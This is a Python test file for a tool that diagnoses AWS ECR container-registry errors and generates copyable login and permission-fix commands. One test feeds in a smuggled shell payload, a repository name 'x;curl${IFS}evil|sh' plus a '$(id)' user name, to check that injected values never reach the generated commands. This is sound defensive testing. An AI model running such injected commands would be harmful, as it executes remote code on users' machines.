"""What holds for every text, and what is read where several values are in it."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from ecr_access.diagnosis import diagnose
from ecr_access.diagnosis.recognise import read_only
from ecr_access.diagnosis.report import as_document, as_text
from ecr_access.diagnosis.text import MAX_LENGTH
from tests.ecr_access.diagnosis.figures import SETS, entries

CORPUS: list[dict[str, Any]] = yaml.safe_load((Path(__file__).parent / "corpus.yaml").read_text(encoding="utf-8"))
TEXTS: list[str] = [entry["text"] for entry in CORPUS] + [entry["text"] for name in SETS for entry in entries(name)]
IN_A_REGION = [
    text
    for text in TEXTS
    if re.search(
        r"dkr[.-]ecr\.[a-z]{2}-[a-z]+-[0-9]\.amazonaws|-container-assets-[0-9]{12}-[a-z]{2}-[a-z]+-[0-9]", text
    )
]
REFUSED = "is not authorized to perform: ecr:{} on resource: arn:aws:ecr:eu-west-1:{}:repository/team/web"


@given(st.text())
def test_any_text_is_answered(text: str) -> None:
    """With a diagnosis or with none, never with an exception."""
    found = diagnose(text)
    assert found is None or as_text(found)


@given(
    st.lists(
        st.one_of(
            st.sampled_from([one["text"] for one in CORPUS]).flatmap(
                lambda text: st.integers(0, len(text)).map(lambda cut: text[cut:])
            ),
            st.text(max_size=20),
            st.sampled_from(
                ["\\", '"', "'", "\n", "\x1b[31m", "://", "?X-Amz-", "=", "-p ", "/v2/", ":latest", "@sha256:"]
            ),
        ),
        max_size=8,
    ).map("".join)
)
def test_pieces_of_errors_are_answered(text: str) -> None:
    """In any order, cut anywhere, as a terminal or a log leaves them; and what is shown is printable."""
    found = diagnose(text)
    if found:
        shown = as_text(found)
        assert shown.isascii()
        assert all(character.isprintable() or character == "\n" for character in shown)
        assert as_document(found)["recognised_by"]


@pytest.mark.timeout(120)
@pytest.mark.parametrize(
    "piece",
    [
        *("?", "\\", "a", " ", "\n", "eyJ", "docker.io", "dkr.ecr", "public.ecr.aws ", "login -p ", "password"),
        *("X-Amz-", "403 Forbidden ECR\n", "repository with name '", "111122223333.dkr.ecr.eu-west-1.amazonaws.com/"),
        *("not authorized to perform: ecr:PutImage ", "arn:aws:iam::111122223333:user/", "starport-layer-bucket"),
    ],
)
def test_a_huge_text_is_answered_soon(piece: str) -> None:
    """Matching is linear: a log of any size and content takes seconds, where it could take hours."""
    diagnose(piece * (MAX_LENGTH // len(piece)))


def test_of_a_long_log_the_end_is_read() -> None:
    """That is where the error is."""
    found = diagnose("step\n" * MAX_LENGTH + "no basic auth credentials")
    assert found
    assert found.cause.name == "not-signed-in"


def test_the_image_of_the_refused_line_is_meant() -> None:
    """Not the base image that was pulled before."""
    found = diagnose(
        "FROM 444455556666.dkr.ecr.us-east-1.amazonaws.com/platform/base:1\n"
        "manifest for 111122223333.dkr.ecr.eu-west-1.amazonaws.com/team/web:1.4 not found: manifest unknown: "
        "Requested image not found\n"
        "see 444455556666.dkr.ecr.us-east-1.amazonaws.com/platform/other:2"
    )
    assert found
    reading = found.reading
    assert (reading.account, reading.region, reading.repository, reading.tag) == (
        "111122223333",
        "eu-west-1",
        "team/web",
        "1.4",
    )


@pytest.mark.parametrize(("action", "grant"), [("PutImage", "grant_push"), ("BatchGetImage", "grant_pull")])
def test_the_grant_is_that_of_the_action(action: str, grant: str) -> None:
    """Pushing and pulling are granted by different lines."""
    found = diagnose(f"User: arn:aws:sts::111122223333:assumed-role/ci/run {REFUSED.format(action, '111122223333')}")
    assert found
    code = "\n".join(step.code for step in found.steps)
    assert f"repository.{grant}(" in code
    assert ("--push" in code) is (grant == "grant_push")
    # A policy is attached to the role, not to its session.
    assert "arn:aws:iam::111122223333:role/ci" in code
    assert "assumed-role" not in code


def test_commands_are_filled_in() -> None:
    """With all that the text tells, so that they can be copied."""
    found = diagnose(
        "The push refers to repository [111122223333.dkr.ecr.cn-north-1.amazonaws.com.cn/team/web]\n"
        "no basic auth credentials"
    )
    assert found
    assert found.steps[0].code == (
        "aws ecr get-login-password --region cn-north-1 | "
        "docker login --username AWS --password-stdin 111122223333.dkr.ecr.cn-north-1.amazonaws.com.cn"
    )


def test_what_is_not_known_is_in_capitals() -> None:
    """It is never guessed."""
    found = diagnose("no basic auth credentials")
    assert found
    assert "ACCOUNT.dkr.ecr.REGION.amazonaws.com" in found.steps[0].code


@pytest.mark.parametrize(
    ("client", "cause"), [("us-east-1", "wrong-region"), ("eu-west-1", "not-signed-in"), (None, "not-signed-in")]
)
def test_a_sign_in_elsewhere_is_told_from_none(client: str | None, cause: str) -> None:
    """Only where both Regions are in the text."""
    text = "Get https://111122223333.dkr.ecr.eu-west-1.amazonaws.com/v2/team/web/manifests/1: no basic auth credentials"
    found = diagnose((f"AWS_REGION={client}\n" if client else "") + text)
    assert found
    assert found.cause.name == cause


@pytest.mark.parametrize(
    "host",
    [
        "111122223333.dkr-ecr.eu-west-1.on.aws",
        "111122223333.dkr.ecr-fips.eu-west-1.amazonaws.com",
        "111122223333.dkr.ecr.eu-west-1.amazonaws.com:443",
    ],
)
def test_every_form_of_a_registry_is_read(host: str) -> None:
    """Dual-stack and FIPS names are registries too."""
    found = diagnose(f'failed to resolve reference "{host}/team/web:1.4": unexpected status: 403 Forbidden')
    assert found
    reading = found.reading
    assert (reading.account, reading.region, reading.repository) == ("111122223333", "eu-west-1", "team/web")


def test_values_are_read_where_the_error_is_unknown() -> None:
    """A report says what was seen."""
    text = "111122223333.dkr.ecr.eu-west-1.amazonaws.com/team/web:1.4 exploded"
    assert diagnose(text) is None
    assert read_only(text).repository == "team/web"


@pytest.mark.parametrize("text", IN_A_REGION)
def test_a_region_that_stands_in_a_uri_is_not_asked_for(text: str) -> None:
    """It is filled in, except where it is the Region that is wrong."""
    found = diagnose(text)
    if found and found.cause.name != "no-such-region":
        assert not re.search(r"\bREGION\b", "\n".join(step.code for step in found.steps))


def test_a_shell_is_given_nothing_but_names() -> None:
    """Commands are copied into shells: what a text smuggles in must not be run there."""
    found = diagnose(
        "name unknown: The repository with name 'x;curl${IFS}evil|sh' does not exist in the registry with id "
        "'111122223333'\nUser: arn:aws:iam::111122223333:user/$(id)"
    )
    assert found
    codes = "\n".join(step.code for step in found.steps)
    assert not {"evil", "$(id)", ";curl"} & {word for word in ("evil", "$(id)", ";curl") if word in codes}
